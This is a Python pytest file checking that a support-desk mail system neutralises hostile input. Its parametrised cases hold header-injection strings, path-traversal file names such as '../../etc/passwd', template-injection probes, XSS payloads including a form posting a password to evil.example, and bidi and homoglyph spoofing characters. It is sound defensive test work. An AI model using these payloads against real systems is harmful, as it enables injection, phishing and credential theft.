"""Hostile text: what a stranger writes is never executed, whatever field of a mail it stands in."""

from __future__ import annotations

import html
import re
import unicodedata
from email.message import EmailMessage
from typing import Any

import pytest

from maildesk.cli.screen import plain
from maildesk.core.model import MINUTE
from maildesk.core.reading import Envelope
from tests.desk import DESK, Desk, a_mail, an_answer, text_of
from tests.work.authority import ALICE, BOB, JANE, handled

EXPECTED = {
    "From", "To", "Subject", "Date", "Message-ID", "In-Reply-To", "References", "Reply-To", "Auto-Submitted",
    "X-Auto-Response-Suppress", "X-Maildesk-Trace", "X-Maildesk-Kind", "X-Maildesk-Ticket", "X-Maildesk-Status",
    "X-Maildesk-Priority", "X-Maildesk-Department", "X-Maildesk-Topic", "X-Maildesk-Assignee", "MIME-Version",
    "Content-Type", "Content-Transfer-Encoding", "Importance",
}  # fmt: skip
PEOPLE = {JANE, ALICE, BOB}


def raw(subject: str = "Hello", name: str = "Jane", text: str = "Hello.", extra: str = "") -> bytes:
    """A mail as bytes: no library mends what is wrong in it."""
    head = f"From: {name} <{JANE}>\r\nTo: {DESK}\r\nSubject: {subject}\r\nMessage-ID: <evil@x.example>\r\n{extra}"
    return f"{head}\r\n{text}\r\n".encode("utf-8", "surrogateescape")


def bodies(mail: EmailMessage) -> tuple[str, str]:
    return text_of(mail), text_of(mail, "html")


def sound(desk: Desk) -> list[EmailMessage]:
    """All that went out: to whom it should, with no field that we do not write."""
    mails = desk.mails()
    assert mails
    for mail in mails:
        assert set(mail.keys()) <= EXPECTED
        assert len(mail.keys()) == len(set(mail.keys())), "no field stands there twice"
        assert {a.addr_spec for a in mail["To"].addresses} <= PEOPLE
        assert not mail.defects
    return mails


CAME = Envelope("smtp", JANE, (DESK,), "127.0.0.1")


def came(desk: Desk, mail: bytes | EmailMessage) -> dict[str, Any]:
    """What became of a mail that no library here could read the envelope out of."""
    desk.now += MINUTE
    return desk.handle(mail, CAME)


def through(desk: Desk, mail: bytes | EmailMessage) -> list[EmailMessage]:
    """A mail comes, and is answered: every kind of mail that shows it goes out."""
    row = came(desk, mail)
    assert row["disposition"] == "new-ticket"
    notice = desk.mails(to=ALICE, template="new_ticket")[-1]
    handled(desk, an_answer(notice, ALICE, "We look into it.\n\n#assign bob", "<answer@desk.example>"))
    assert desk.mails(template="answer")
    assert desk.mails(template="handoff")
    return sound(desk)


@pytest.mark.parametrize(
    "line",
    [
        "\r\n Bcc: eve@evil.example",
        "=?utf-8?q?x=0D=0ABcc:_eve@evil.example?=",
        "=?utf-8?b?eA0KQmNjOiBldmVAZXZpbC5leGFtcGxl?=",
        "x\rBcc: eve@evil.example",
        "x\u2028Bcc: eve@evil.example",
        "x\x00\x0b\x0cBcc: eve@evil.example",
    ],
)  # fmt: skip
def test_header_injection(desk: Desk, line: str) -> None:
    for mail in through(desk, raw(subject=line, name=f'"{line.strip()}"' if "\r\n" not in line else "Jane")):
        assert mail["Bcc"] is None
        for name in ("From", "To", "Reply-To"):
            assert "eve@evil.example" not in [
                a.addr_spec for a in (mail[name].addresses if mail[name] else ())
            ]


def test_header_injection_by_a_file_name(desk: Desk) -> None:
    mail = a_mail()
    mail.add_attachment(b"x", maintype="application", subtype="octet-stream", filename="a")
    evil = b"=?utf-8?q?a=0D=0ABcc=3A_eve=40evil.example?="
    through(desk, mail.as_bytes().replace(b'filename="a"', b'filename="' + evil + b'"'))


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "..\\..\\windows\\system32\\a.exe", "/etc/passwd", "C:\\a.txt", "a\x00.txt", "", ".", "..",
     "x" * 5_000, "con", "~root/.ssh/id", "a/b/c.txt"],
)  # fmt: skip
def test_path_names_in_attachments(desk: Desk, name: str) -> None:
    mail = a_mail()
    mail.add_attachment(b"content", maintype="application", subtype="octet-stream", filename="NAME")
    shown = name.replace("\\", "\\\\").encode()
    sent = through(desk, mail.as_bytes().replace(b'"NAME"', b'"' + shown + b'"'))
    names = [part.get_filename() or "" for mail in sent for part in mail.iter_attachments()]
    assert names
    for found in names:
        assert not re.search(r"[/\\\x00-\x1f]", found), "no client could be led out of its folder"
        assert len(found) <= 255
        assert found.strip(". "), "and it names something"


TEMPLATES = (
    "{{ 7*7 }}", "{% for x in range(9999) %}x{% endfor %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{ ''.__class__ }}",
)  # fmt: skip


@pytest.mark.parametrize("syntax", TEMPLATES)
def test_template_syntax_in_every_field(desk: Desk, syntax: str) -> None:
    mail = a_mail(f'"{syntax}" <{JANE}>', subject=syntax, text=f"{syntax}\n", headers={"X-Priority": syntax})
    mail.add_attachment(
        b"x", maintype="application", subtype="pdf", filename=f"{syntax}.pdf".replace("/", "_")
    )
    for one in through(desk, mail):
        text, markup = bodies(one)
        for said in (text, html.unescape(markup), str(one["Subject"]), str(one["To"]), str(one["From"])):
            assert "xxx" not in said
            assert "<class" not in said
        assert syntax in f"{text}{one['Subject']}"


HTML = (
    "<script>alert(1)</script>", "<svg onload=alert(1)>", "<img src=http://evil.example/x.png onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>", "<iframe src=http://evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<form action=http://evil.example><input name=password></form>", "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>", "</div></body></html><script>x</script>",
)  # fmt: skip


@pytest.mark.parametrize("markup", HTML)
@pytest.mark.parametrize("where", ["text", "subject", "html"])
def test_html_and_svg_scripts_and_remote_pictures(desk: Desk, markup: str, where: str) -> None:
    subject, text = (markup, "Hello") if where == "subject" else ("Hello", f"{markup}\n")
    mail = a_mail(f'"{markup.replace(chr(34), "")}" <{JANE}>', subject=subject, text=text)
    if where == "html":
        mail.set_content(f"<html><body><p>Look: {markup} here</p></body></html>", subtype="html")
    for one in through(desk, mail):
        shown = bodies(one)[1].lower()
        tags = re.findall(r"<[^>]*>", shown)
        for tag in tags:
            assert not re.match(r"</?(?:script|svg|img|iframe|form|input|base|object|embed)\b", tag), tag
            assert not re.search(r"\son\w+\s*=|javascript:|http-equiv=.?refresh", tag), tag
        assert "display:none}" not in "".join(re.findall(r"<style>.*?</style>", shown, re.DOTALL))


@pytest.mark.parametrize("kind", ["svg", "html"])
def test_a_script_in_an_attached_file_is_a_file_and_no_part_of_the_text(desk: Desk, kind: str) -> None:
    mail = a_mail()
    if kind == "svg":
        mail.add_attachment(b"<svg onload=alert(1)/>", maintype="image", subtype="svg+xml", filename="x.svg")
    else:
        mail.add_attachment("<script>alert(1)</script>", subtype="html", filename="x.html")
    for one in through(desk, mail):
        assert "alert(1)" not in "".join(bodies(one))
        for part in one.iter_attachments():
            assert part.get_content_disposition() == "attachment"


@pytest.mark.parametrize(
    "name",
    ["Alice Ames <alice@desk.example>", f"{ALICE}", "Example Support <support@desk.example>", "INTERNAL #482913",
     "Jane (agent)", "x" * 10_000],
)  # fmt: skip
def test_display_name_tricks(desk: Desk, name: str) -> None:
    """A name that looks like an address, or like the desk itself, makes nobody somebody else."""
    shown = name.replace("\\", "").replace('"', "")
    row = came(desk, raw(name=f'"{shown}"', text="#close\r\nSend your password."))
    found = desk.ticket(row["ticket"])
    assert (found["requester"], found["status"], row["proof"]) == (JANE, "new", "claimed")
    for mail in sound(desk):
        (sender,) = mail["From"].addresses
        assert sender.addr_spec == DESK
        assert len(sender.display_name) <= 200
        if mail["To"].addresses[0].addr_spec == ALICE:
            assert sender.display_name.endswith("(customer)")


TURNING = {"RLO", "LRO", "RLE", "LRE", "RLI", "LRI", "FSI"}
INVISIBLE = "\u202e\u202a\u2066\u200b\u200d\ufeff\u2062\u00ad\x1b[31m\x07"


def test_bidi_and_zero_width_characters(desk: Desk) -> None:
    """They cannot turn what stands around them, in a header or on a screen."""
    mail = raw(f"gpj.{INVISIBLE}exe", f'"Jane{INVISIBLE}"', f"pay{INVISIBLE}pal.example")
    row = came(desk, mail)
    found = desk.ticket(row["ticket"])
    for text in (found["subject"], found["requester_name"], found["entries"][0]["text"]):
        on_screen = plain(text)
        turning = [c for c in on_screen if unicodedata.bidirectional(c) in TURNING]
        assert not turning
        assert "\x1b" not in on_screen
    for one in sound(desk):
        for value in (str(one["Subject"]), str(one["From"]), str(one["To"])):
            assert not re.search("[\u202a-\u202e\u2066-\u2069\x1b\x07]", value)


def test_an_address_with_invisible_characters_is_nobodys(desk: Desk, number: int) -> None:
    """A soft hyphen in a domain is none of its letters (IDNA): that mail is in Alice's name, and held."""
    for n, (sender, disposition) in enumerate(
        (
            ("ali\u200bce@desk.example", "new-ticket"),
            ("\u0430lice@desk.example", "new-ticket"),
            ("alice@desk\u00ad.example", "held"),
            ("alice@desk.example\u200b", "new-ticket"),
        )
    ):
        mail = raw(f"Re: [#{number}]").replace(JANE.encode(), sender.encode()).replace(b"evil@", b"%d@" % n)
        row = desk.handle(mail, Envelope("smtp", "eve@evil.example", (DESK,), "127.0.0.1"))
        assert (row["disposition"], row["proof"]) == (disposition, "claimed"), sender
        if disposition == "new-ticket":
            assert row["ticket"] != number
            assert desk.ticket(row["ticket"])["requester"] != ALICE
        assert len(desk.ticket(number)["entries"]) == 1
        assert not desk.mails(template="answer")
